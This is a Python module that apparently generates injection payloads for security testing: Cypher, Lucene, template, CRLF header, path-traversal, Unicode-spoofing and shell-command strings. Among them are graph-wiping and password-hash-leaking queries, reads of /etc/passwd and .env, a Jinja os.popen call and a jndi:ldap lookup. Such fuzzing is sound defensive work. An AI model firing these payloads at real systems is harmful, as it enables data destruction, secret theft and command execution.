"""What attackers send, in families: each combines a few beginnings with a few wishes, so that there are thousands and none is listed twice."""

from collections.abc import Iterator
from itertools import product

RESULT = "51724863"
"""Of 7191 times 7193: stands on a page only where a template carried the payload out."""
HEADER = "X-Injected"
MARK = "injected"

QUOTES = ("'", '"', "`", "\\'", "''", "')", '")', "'})", '"})', "'})-[]-(x", "%27", "＇", "ʼ", "\\u0027", "*/", "//", "--", ";")
WISHES = (
    f"SET n.{MARK} = true", f"MATCH (m) SET m.{MARK} = true", f"MATCH (m:Account) SET m.{MARK} = 1", "DETACH DELETE n", "MATCH (m) DETACH DELETE m",
    "CREATE (:Injected {id: 'x'})", "MERGE (:Injected {id: 'x'})", "MATCH (m) REMOVE m.audience", "MATCH (m) SET m.audience = ['public']",
    "RETURN 1 AS id UNION MATCH (m) RETURN m.password_hash AS id", "RETURN n.id AS id", "CALL db.labels() YIELD label RETURN label AS id",
    "LOAD CSV FROM 'file:///etc/passwd' AS l CREATE (:Injected {l: l[0]})", "LOAD CSV FROM 'http://127.0.0.1:9/' AS l RETURN l",
    "CALL dbms.listConfig()", "FOREACH (i IN range(1, 9) | CREATE (:Injected))", "DROP CONSTRAINT account_id", "CREATE INDEX FOR (n:Injected) ON (n.x)",
    "WITH n UNWIND range(1, 1000000000) AS i RETURN i", "CALL { MATCH (m) DETACH DELETE m } IN TRANSACTIONS", "SET n:Injected", "OR true RETURN n.id AS id",
)  # fmt: skip
TAILS = (" //", " /*", "", " RETURN n.id AS id //", " WITH 1 AS x MATCH (n) WHERE n.title = '")
JOINTS = (" OR 1=1 ", " OR true ", " ")

WORDS = ("電池", "wqpublic", "title", "audience", "kind", "_exists_", "*", "id")
LUCENE = (
    "{w}:*", "{w}:[* TO *]", "{w}:{{* TO *}}", "+{w} -audience:maker", "({w}", "{w})", "{w}~", "{w}~2000", "{w}^1e309", '"{w}', '"{w}"~9999999', "/{w}.*/", "/({w}+)+$/",
    "{w} AND", "NOT {w} OR", "&& {w} ||", "{w}\\", "\\{w}", "{w}?*?*?*?*", "_source:{w}", "audience:(system OR {w})", "{w} IN [a b c]", "{w}: IN [", "*:{w}",
    '{{"query":{{"match_all":{{}}}},"x":"{w}"}}', '{{"script":{{"source":"{w}"}}}}', "{w}<b>^-1", "{w}:>0", "{w}:(", "!{w}!!", "{w}*{w}*{w}*{w}", "'{w}':",
)  # fmt: skip
TEMPLATES = (
    "{{7191*7193}}", "{{ 7191*7193 }}", "{% print 7191*7193 %}", "${7191*7193}", "#{7191*7193}", "<%= 7191*7193 %>", "{{=7191*7193}}",
    "*{7191*7193}", "@(7191*7193)", "{{config}}", "{{ config.SECRET_KEY }}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% include '/etc/passwd' %}", "{{ request.environ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{0.__class__.__init__.__globals__}",
    "%(number)s", "%s%s%s%n", "{number}", "{0}", "$number", "{#", "{%", "{{", "}}", "%}", "{% raw %}", "{{ url_for.__globals__ }}", "{{ get_flashed_messages.__globals__ }}",
)  # fmt: skip
BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\u2029", "\x85", "\u560d\u560a", "%E5%98%8A%E5%98%8D", "\x0b", "\x0c", "\\r\\n", "\t")
LINES = (
    f"{HEADER}: 1",
    f"Set-Cookie: {MARK}=1",
    "Location: https://elsewhere.example/",
    "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "\r\n<script>1</script>",
)
STARTS = ("", "a", "/a", "zh_CN", "https://a.example/")
UPS = ("../", "..\\", "....//", "%2e%2e/", "..%2f", "%252e%252e%252f", "..;/", "／．．／", "..%c0%af", "/./../", "file:///", "\\\\?\\")
FILES = (
    "etc/passwd",
    "secret_key",
    "graph/engine",
    "windows/win.ini",
    "marketplace/config.py",
    "proc/self/environ",
    ".env",
    "etc/passwd%00.png",
    "dev/zero",
    "con",
)
NULS = (
    "\x00",
    "a\x00b",
    "%00",
    "\\0",
    "\x00\x00",
    "\ud800",
    "\udfff",
    "a\ud83d",
    "\ufffd",
    "\ufffe",
    "\uffff",
    "\x1b[2J",
    "\x7f",
    "\x08",
    "\x1a",
    "\u0000.txt",
)
SPOOFS = (
    "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u0301" * 40, "\U000e0041", "ａｄｍｉｎ", "аdmin", "ﬁle", "İ", "ß", "ẞ", "K", "Å", "①", "٣", "႐", "𝟙", "½",
    "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "Z̵̢͝a̷l̶g̴o̵", "﷽" * 30, "꧁", "\u3164", "\u115f", "𒐫", "〲", "\ue000", "null", "undefined", "NaN", "true", "[]", "{}", "__proto__", "constructor", "-0", "1e400",
)  # fmt: skip
PLACES = ("{}", "{}admin", "admin{}", "a{}b", "{0}{0}{0}")
SHELL = (
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "&& id",
    "\n id",
    "' ; id",
    "<!--#exec cmd='id'-->",
    "${jndi:ldap://127.0.0.1:9/a}",
    "http://127.0.0.1:9/",
    "gopher://127.0.0.1:9/_",
)


def cypher() -> Iterator[str]:
    return (f"a{quote}{joint}{wish}{tail}" for quote, joint, wish, tail in product(QUOTES, JOINTS, WISHES, TAILS))


def searches() -> Iterator[str]:
    return (form.format(w=word) for form, word in product(LUCENE, WORDS))


def lines() -> Iterator[str]:
    return (f"{start}{broken}{line}" for start, broken, line in product(STARTS, BREAKS, LINES))


def ways() -> Iterator[str]:
    return (f"{up * times}{file}" for up, times, file in product(UPS, (1, 3, 8), FILES))


def signs() -> Iterator[str]:
    return (place.format(sign) for place, sign in product(PLACES, (*NULS, *SPOOFS)))


def others() -> Iterator[str]:
    return (place.format(text) if "{" not in text and "}" not in text else text for place, text in product(("{}", "a {}"), (*TEMPLATES, *SHELL)))


FAMILIES = {"cypher": cypher, "search": searches, "header": lines, "path": ways, "sign": signs, "template": others}


def payloads(most: int = 2_000) -> list[str]:
    """As many of each family as there are, evenly; of the largest what is left."""
    found = {name: list(dict.fromkeys(family())) for name, family in FAMILIES.items()}
    small = [one for name, family in found.items() if name != "cypher" for one in family]
    step = max(1, len(found["cypher"]) // max(1, most - len(small)))
    every = list(dict.fromkeys([*small, *found["cypher"][::step]]))
    return every[:: max(1, len(every) // most)][:most]
